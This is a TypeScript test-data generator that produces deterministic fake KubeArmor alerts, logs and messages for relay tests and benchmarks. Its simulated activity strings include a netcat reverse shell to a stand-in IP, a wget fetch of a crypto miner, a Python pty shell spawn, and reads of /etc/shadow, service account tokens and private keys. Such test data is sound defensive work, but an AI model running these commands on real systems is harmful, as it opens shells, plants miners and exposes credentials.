// Realistic, varied KubeArmor events for the fake node daemon, tests and benchmarks.
//
// Deterministic by seed: each kind draws from its own PRNG, so the alert sequence does
// not depend on how alert/log/message calls interleave. Only the clock makes two runs
// differ; pass `clock` for byte-identical output.
//
// Every proto field of Alert and Log is set to a non-default value, so a field-for-field
// comparison after a trip through the relay catches any loss (a default value would not
// be on the wire at all, and its loss would go unnoticed).
//
// Per-event metadata, for ordering and latency checks:
//   - alerts and logs carry EventData["seq"] (decimal, 1-based per kind and source) and
//     EventData["sentAtNs"] (wall-clock Unix time in nanoseconds, decimal);
//   - messages have no map, so they end their Message text with " (seq=N sentAtNs=T)".
// `eventMeta()` reads both shapes back. The fake node creates each event immediately
// before writing it, so sentAtNs is the send time.
import type { Kind } from '../kinds.js';
import { KIND_BY_NAME } from '../kinds.js';
import { decodeToObject, encodeFromObject, type EventObject } from '../proto.js';

export type { EventObject };

export interface EventSourceOptions {
  seed?: number;
  nodeName?: string;
  clusterName?: string;
  hostIP?: string;
  /** wall-clock Unix time in nanoseconds; defaults to the process clock (µs resolution) */
  clock?: () => bigint;
}

export interface EventSource {
  /** the next event of that kind; sentAtNs defaults to the clock */
  next(kind: Kind, sentAtNs?: bigint): EventObject;
  /** how many events of each kind were made */
  readonly made: Readonly<Record<Kind, number>>;
}

export interface EventMeta {
  seq: number;
  sentAtNs: bigint;
}

/** Wall-clock Unix time in nanoseconds, finer than Date.now(). */
export function wallClockNs(): bigint {
  return BigInt(Math.round((performance.timeOrigin + performance.now()) * 1000)) * 1000n;
}

/** RFC 3339 with nanoseconds, as Go's time.RFC3339Nano writes UTC (trailing zeros kept). */
export function rfc3339Nano(ns: bigint): string {
  const ms = Number(ns / 1_000_000n);
  const frac = (ns % 1_000_000_000n).toString().padStart(9, '0');
  return `${new Date(ms).toISOString().slice(0, 19)}.${frac}Z`;
}

export function encodeEvent(kind: Kind, obj: EventObject): Buffer {
  return encodeFromObject(KIND_BY_NAME[kind].type, obj);
}

export function decodeEvent(kind: Kind, bytes: Uint8Array): EventObject {
  return decodeToObject(KIND_BY_NAME[kind].type, bytes);
}

const MESSAGE_META = / \(seq=(\d+) sentAtNs=(\d+)\)$/;

/** seq and send time of an event made by this module; undefined for foreign events. */
export function eventMeta(kind: Kind, obj: EventObject): EventMeta | undefined {
  if (kind === 'message') {
    const m = MESSAGE_META.exec(String(obj.Message ?? ''));
    return m ? { seq: Number(m[1]), sentAtNs: BigInt(m[2]!) } : undefined;
  }
  const data = obj.EventData as Record<string, string> | undefined;
  if (!data?.seq || !data.sentAtNs) return undefined;
  return { seq: Number(data.seq), sentAtNs: BigInt(data.sentAtNs) };
}

export function eventMetaFromBytes(kind: Kind, bytes: Uint8Array): EventMeta | undefined {
  return eventMeta(kind, decodeEvent(kind, bytes));
}

// ---- randomness ----------------------------------------------------------------------

/** mulberry32: tiny, fast, good enough for test data, and reproducible everywhere. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function hashString(s: string): number {
  let h = 2166136261;
  for (let i = 0; i < s.length; i++) h = Math.imul(h ^ s.charCodeAt(i), 16777619);
  return h >>> 0;
}

class Rng {
  constructor(readonly random: () => number) {}
  int(min: number, max: number): number {
    return min + Math.floor(this.random() * (max - min + 1));
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)]!;
  }
  chance(p: number): boolean {
    return this.random() < p;
  }
  hex(len: number): string {
    let s = '';
    while (s.length < len) s += Math.floor(this.random() * 0x100000000).toString(16).padStart(8, '0');
    return s.slice(0, len);
  }
  alnum(len: number): string {
    const chars = 'bcdfghjklmnpqrstvwxz2456789';
    let s = '';
    for (let i = 0; i < len; i++) s += chars[Math.floor(this.random() * chars.length)];
    return s;
  }
  uuid(): string {
    const h = this.hex(32);
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20)}`;
  }
}

// ---- the simulated node ----------------------------------------------------------------

interface Workload {
  namespace: string;
  deployment: string;
  container: string;
  image: string;
  labels: string;
  user: { name: string; uid: number };
  cwd: string;
  mainProcess: string;
}

const WORKLOADS: readonly Workload[] = [
  { namespace: 'default', deployment: 'nginx', container: 'nginx', image: 'docker.io/library/nginx:1.25.3', labels: 'app=nginx', user: { name: 'nginx', uid: 101 }, cwd: '/', mainProcess: '/usr/sbin/nginx' },
  { namespace: 'wordpress-mysql', deployment: 'wordpress', container: 'wordpress', image: 'docker.io/library/wordpress:4.8-apache', labels: 'app=wordpress,tier=frontend', user: { name: 'www-data', uid: 33 }, cwd: '/var/www/html/', mainProcess: '/usr/sbin/apache2' },
  { namespace: 'wordpress-mysql', deployment: 'mysql', container: 'mysql', image: 'docker.io/library/mysql:5.6', labels: 'app=mysql,tier=backend', user: { name: 'mysql', uid: 999 }, cwd: '/var/lib/mysql/', mainProcess: '/usr/sbin/mysqld' },
  { namespace: 'payments', deployment: 'checkout-api', container: 'api', image: 'ghcr.io/acme/checkout-api:2.14.0', labels: 'app.kubernetes.io/name=checkout-api,app.kubernetes.io/part-of=payments,team=billing', user: { name: 'app', uid: 10001 }, cwd: '/srv/app/', mainProcess: '/usr/local/bin/node' },
  { namespace: 'kube-system', deployment: 'coredns', container: 'coredns', image: 'registry.k8s.io/coredns/coredns:v1.11.1', labels: 'k8s-app=kube-dns', user: { name: 'nonroot', uid: 65532 }, cwd: '/', mainProcess: '/coredns' },
  { namespace: 'monitoring', deployment: 'prometheus', container: 'prometheus', image: 'quay.io/prometheus/prometheus:v2.51.0', labels: 'app.kubernetes.io/name=prometheus,app.kubernetes.io/instance=k8s', user: { name: 'nobody', uid: 65534 }, cwd: '/prometheus/', mainProcess: '/bin/prometheus' },
  { namespace: 'dvwa', deployment: 'dvwa-web', container: 'dvwa', image: 'docker.io/cytopia/dvwa:php-8.1', labels: 'app=dvwa-web,tier=frontend', user: { name: 'www-data', uid: 33 }, cwd: '/var/www/html/', mainProcess: '/usr/local/sbin/php-fpm' },
  { namespace: 'cache', deployment: 'redis', container: 'redis', image: 'docker.io/library/redis:7.2-alpine', labels: 'app=redis,role=primary', user: { name: 'redis', uid: 999 }, cwd: '/data/', mainProcess: '/usr/local/bin/redis-server' },
];

interface Pod {
  workload: Workload;
  podName: string;
  podUID: string;
  containerID: string;
  imageDigest: string;
  hostPidBase: number;
}

type Operation = 'Process' | 'File' | 'Network';

interface Activity {
  operation: Operation;
  process: string;
  parent: string;
  resource: string;
  data: string;
  /** what the same activity looks like when BPF-LSM, not AppArmor, reports it */
  lsmData: string;
}

const SHELLS = ['/bin/bash', '/bin/sh', '/usr/bin/dash'] as const;

function processActivity(r: Rng, w: Workload): Activity {
  const [process, args] = r.pick([
    ['/usr/bin/apt', 'install -y netcat-openbsd'],
    ['/usr/bin/apt-get', 'update'],
    ['/usr/bin/curl', '-fsSL https://raw.githubusercontent.com/example/tools/main/install.sh'],
    ['/usr/bin/wget', '-q -O /tmp/xmrig.tar.gz http://198.51.100.23/xmrig.tar.gz'],
    ['/bin/cat', '/etc/os-release'],
    ['/usr/bin/python3', '-c import pty;pty.spawn("/bin/bash")'],
    ['/bin/nc', '-e /bin/sh 203.0.113.9 4444'],
    ['/usr/bin/id', '-u'],
    ['/bin/chmod', '+x /tmp/payload.sh'],
  ] as const);
  const parent = r.chance(0.3) ? w.mainProcess : r.pick(SHELLS);
  return { operation: 'Process', process, parent, resource: `${process} ${args}`, data: 'syscall=SYS_EXECVE', lsmData: 'lsm=SECURITY_BPRM_CHECK' };
}

function fileActivity(r: Rng, w: Workload): Activity {
  const path = r.pick([
    '/etc/passwd',
    '/etc/shadow',
    '/run/secrets/kubernetes.io/serviceaccount/token',
    '/proc/self/environ',
    '/etc/ssl/private/server.key',
    `${w.cwd}config/settings.yaml`,
    '/var/www/html/wp-config.php',
    '/etc/nginx/nginx.conf',
    '/tmp/.X11-unix/.payload.sh',
    '/usr/lib/x86_64-linux-gnu/libssl.so.3',
  ]);
  const flags = r.pick(['O_RDONLY', 'O_RDONLY|O_CLOEXEC', 'O_WRONLY|O_CREAT|O_TRUNC', 'O_RDWR|O_APPEND']);
  const process = r.pick([w.mainProcess, '/bin/cat', '/usr/bin/vi', '/bin/cp', '/usr/bin/find']);
  return { operation: 'File', process, parent: r.pick([w.mainProcess, ...SHELLS]), resource: path, data: `syscall=SYS_OPENAT fd=-100 flags=${flags}`, lsmData: 'lsm=SECURITY_FILE_OPEN' };
}

function networkActivity(r: Rng, w: Workload): Activity {
  const kprobe = r.pick(['tcp_connect', 'tcp_connect', 'tcp_accept', 'udp_sendmsg']);
  // 10.244/16 pod addresses and 10.96/12 service addresses, so the relay's remotehost
  // enrichment has something to match when a test feeds it pod and service IPs.
  const ip = r.chance(0.5) ? `10.244.${r.int(0, 7)}.${r.int(2, 254)}` : `10.96.${r.int(0, 15)}.${r.int(1, 254)}`;
  const port = r.pick([443, 80, 53, 3306, 6379, 8080, 9090]);
  const protocol = kprobe.startsWith('udp') ? 'UDP' : 'TCP';
  const process = r.pick([w.mainProcess, '/usr/bin/curl', '/bin/nc', '/usr/bin/python3']);
  return {
    operation: 'Network',
    process,
    parent: r.pick([w.mainProcess, ...SHELLS]),
    resource: `remoteip=${ip} port=${port} protocol=${protocol}`,
    data: `kprobe=${kprobe} domain=AF_INET`,
    lsmData: `lsm=SOCKET_CONNECT domain=AF_INET type=${protocol === 'TCP' ? 'SOCK_STREAM' : 'SOCK_DGRAM'}`,
  };
}

interface Policy {
  name: string;
  operation: Operation;
  severity: string;
  tags: readonly string[];
  message: string;
}

const POLICIES: readonly Policy[] = [
  { name: 'ksp-block-pkg-mgmt-exec', operation: 'Process', severity: '5', tags: ['NIST', 'NIST_800-53_CM-7(5)', 'SI-4', 'process', 'MITRE_T1553_Subvert_Trust_Controls'], message: 'Alert! Execution of package management process inside container is denied' },
  { name: 'harden-mysql-write-under-bin-directories', operation: 'Process', severity: '5', tags: ['NIST', 'NIST_800-53_AU-2', 'MITRE', 'MITRE_T1036_masquerading'], message: 'Process executed from a temporary or binary directory' },
  { name: 'ksp-audit-sensitive-file-access', operation: 'File', severity: '7', tags: ['CIS', 'CIS_Linux', 'NIST_800-53_AC-3', 'file-integrity'], message: 'Sensitive file was accessed' },
  { name: 'harden-wordpress-k8s-client-tool-exec', operation: 'File', severity: '3', tags: ['MITRE_T1609_container_administration_command', 'MITRE_TA0002_execution'], message: 'Alert! k8s service account token was accessed' },
  { name: 'ksp-restrict-egress-network', operation: 'Network', severity: '4', tags: ['NIST', 'NIST_800-53_SC-7', 'network', 'egress'], message: 'Unexpected outbound network connection' },
  { name: 'harden-dvwa-icmp-block', operation: 'Network', severity: '6', tags: ['MITRE', 'MITRE_T1095_non_application_layer_protocol'], message: 'Raw or unexpected socket use was blocked' },
];

const ACTIVITY: Record<Operation, (r: Rng, w: Workload) => Activity> = {
  Process: processActivity,
  File: fileActivity,
  Network: networkActivity,
};

const SYSTEM_MESSAGES: readonly (readonly [string, string])[] = [
  ['INFO', 'Started to monitor system events'],
  ['INFO', 'Detected a container (added/{ns}/{pod}/{cid})'],
  ['INFO', 'Detected a pod (added/{ns}/{pod})'],
  ['INFO', 'Updated security policies for {ns}/{pod}'],
  ['DEBUG', 'Enforcer cache refreshed for container {cid}'],
  ['WARN', 'Dropped alerts for {ns}/{pod}: throttling at MaxAlertsPerSec'],
  ['ERROR', 'Failed to load AppArmor profile kubearmor-{ns}-{pod}: profile already loaded'],
];

const KUBEARMOR_VERSION = 'v1.4.5';

/**
 * One simulated node: a stable set of pods, a node identity, and one independent random
 * stream per kind.
 */
export function createEventSource(options: EventSourceOptions = {}): EventSource {
  const seed = options.seed ?? 1;
  const nodeName = options.nodeName ?? 'node-1';
  const clusterName = options.clusterName ?? 'default';
  const hostIP = options.hostIP ?? '10.0.0.11';
  const clock = options.clock ?? wallClockNs;

  const setup = new Rng(prng(seed ^ hashString(`setup/${nodeName}`)));
  const nodeID = setup.hex(64);
  const pods: Pod[] = WORKLOADS.map((workload) => ({
    workload,
    podName: `${workload.deployment}-${setup.alnum(10)}-${setup.alnum(5)}`,
    podUID: setup.uuid(),
    containerID: setup.hex(64),
    imageDigest: setup.hex(64),
    hostPidBase: setup.int(2_000, 400_000),
  }));
  const rngs: Record<Kind, Rng> = {
    alert: new Rng(prng(seed ^ hashString(`alert/${nodeName}`))),
    log: new Rng(prng(seed ^ hashString(`log/${nodeName}`))),
    message: new Rng(prng(seed ^ hashString(`message/${nodeName}`))),
  };
  const made: Record<Kind, number> = { alert: 0, log: 0, message: 0 };

  // Hashes of a given executable or file stay the same, as they would on a real node.
  const hashes = new Map<string, string>();
  function hashOf(path: string): string {
    let h = hashes.get(path);
    if (h === undefined) {
      h = new Rng(prng(seed ^ hashString(`hash/${path}`))).hex(64);
      hashes.set(path, h);
    }
    return h;
  }

  /** The fields Alert and Log share (protobuf encodes by field number, so order is free). */
  function shared(r: Rng, seq: number, sentAtNs: bigint, pod: Pod, act: Activity): EventObject {
    const hostPID = pod.hostPidBase + r.int(10, 5_000);
    const pid = r.int(7, 900);
    const w = pod.workload;
    return {
      Timestamp: Number(sentAtNs / 1_000_000_000n),
      UpdatedTime: rfc3339Nano(sentAtNs),
      ClusterName: clusterName,
      HostName: nodeName,
      NamespaceName: w.namespace,
      Owner: { Ref: 'Deployment', Name: w.deployment, Namespace: w.namespace },
      PodName: pod.podName,
      Labels: w.labels,
      ContainerID: pod.containerID,
      ContainerName: w.container,
      ContainerImage: `${w.image}@sha256:${pod.imageDigest}`,
      HostPPID: hostPID - r.int(1, 9),
      HostPID: hostPID,
      PPID: pid - r.int(1, 6),
      PID: pid,
      UID: w.user.uid,
      ParentProcessName: act.parent,
      ProcessName: act.process,
      Source: `${act.parent} -c ${act.process}`,
      Operation: act.operation,
      Resource: act.resource,
      EventData: {
        seq: String(seq),
        sentAtNs: sentAtNs.toString(),
        PodUID: pod.podUID,
        ContainerRuntime: 'containerd://1.7.13',
        Syscall: act.data.slice(act.data.indexOf('=') + 1, act.data.indexOf(' ') === -1 ? undefined : act.data.indexOf(' ')),
      },
      Cwd: w.cwd,
      TTY: r.pick(['pts0', 'pts1', 'pts2']),
      ExecEvent: { ExecID: String(r.int(1_000_000, 99_999_999)), ExecutableName: act.process.slice(act.process.lastIndexOf('/') + 1) },
      NodeID: nodeID,
      ProcessHash: hashOf(act.process),
      ParentHash: hashOf(act.parent),
      ResourceHash: hashOf(act.operation === 'Network' ? act.data : act.resource), // bounded memo: IPs vary
      HashAlgo: 'Sha256',
      UserName: w.user.name,
    };
  }

  function alert(seq: number, sentAtNs: bigint): EventObject {
    const r = rngs.alert;
    const pod = r.pick(pods);
    const policy = r.pick(POLICIES);
    const act = ACTIVITY[policy.operation](r, pod.workload);
    const bpf = r.chance(0.4);
    const block = r.chance(0.6);
    return {
      ...shared(r, seq, sentAtNs, pod, act),
      PolicyName: policy.name,
      Severity: policy.severity,
      Tags: policy.tags.join(','),
      ATags: [...policy.tags],
      Message: policy.message,
      Type: 'MatchedPolicy',
      Data: bpf ? act.lsmData : act.data,
      Enforcer: bpf ? 'BPFLSM' : 'AppArmor',
      Action: block ? 'Block' : 'Audit',
      Result: block ? 'Permission denied' : 'Passed',
      MaxAlertsPerSec: 10,
      DroppingAlertsInterval: 10,
      KubeArmorVersion: KUBEARMOR_VERSION,
    };
  }

  function log(seq: number, sentAtNs: bigint): EventObject {
    const r = rngs.log;
    const pod = r.pick(pods);
    const operation = r.pick(['Process', 'Process', 'File', 'File', 'File', 'Network'] as const);
    const act = ACTIVITY[operation](r, pod.workload);
    return {
      ...shared(r, seq, sentAtNs, pod, act),
      Type: r.chance(0.85) ? 'ContainerLog' : 'HostLog',
      Data: act.data,
      Result: r.pick(['Passed', 'Passed', 'Passed', 'No such file or directory', 'Permission denied']),
    };
  }

  function message(seq: number, sentAtNs: bigint): EventObject {
    const r = rngs.message;
    const pod = r.pick(pods);
    const [level, template] = r.pick(SYSTEM_MESSAGES);
    const text = template
      .replace('{ns}', pod.workload.namespace)
      .replace('{pod}', pod.podName)
      .replace('{cid}', pod.containerID.slice(0, 12));
    return {
      Timestamp: Number(sentAtNs / 1_000_000_000n),
      UpdatedTime: rfc3339Nano(sentAtNs),
      ClusterName: clusterName,
      HostName: nodeName,
      HostIP: hostIP,
      Type: 'Message',
      Level: level,
      Message: `${text} (seq=${seq} sentAtNs=${sentAtNs})`,
    };
  }

  const makers: Record<Kind, (seq: number, sentAtNs: bigint) => EventObject> = { alert, log, message };

  return {
    next(kind: Kind, sentAtNs?: bigint): EventObject {
      const seq = ++made[kind];
      return makers[kind](seq, sentAtNs ?? clock());
    },
    made,
  };
}
